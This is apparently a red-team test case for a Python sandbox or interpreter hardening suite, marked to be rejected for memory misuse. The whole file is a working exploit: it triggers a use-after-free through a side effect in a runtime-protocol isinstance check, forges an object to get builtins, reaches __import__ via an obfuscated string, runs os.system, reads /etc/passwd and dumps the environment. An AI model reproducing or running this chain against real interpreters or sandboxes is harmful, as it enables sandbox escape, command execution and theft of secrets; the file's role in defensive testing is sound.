# expect: reject memory
# line: 44
# why: round 101c (red team): isinstance against a runtime protocol reads each member by name, here csv.DictReader's fieldnames property, which advances a map the program keeps
import csv
import typing

vl = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


def g():
    return 0


FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
        + q(0) + q(0) + q(0) + q(0) + q(0))[:89]


def wipe(x):
    vl.clear()
    return x


# csv.reader takes iter() of the map now and runs it lazily, one row per next()
DR = csv.DictReader(map(wipe, ["a,b"]))


@typing.runtime_checkable
class P(typing.Protocol):
    fieldnames: int


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f", "h", "i")

    def __eq__(self, o):
        return False

    def __lt__(self, o):
        n = isinstance(DR, P)
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    def __gt__(self, o):
        return o


vl.append(V())
w = W()
got = vl < [w]
KEEP.append(bytearray(FAKE))
bt = got[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
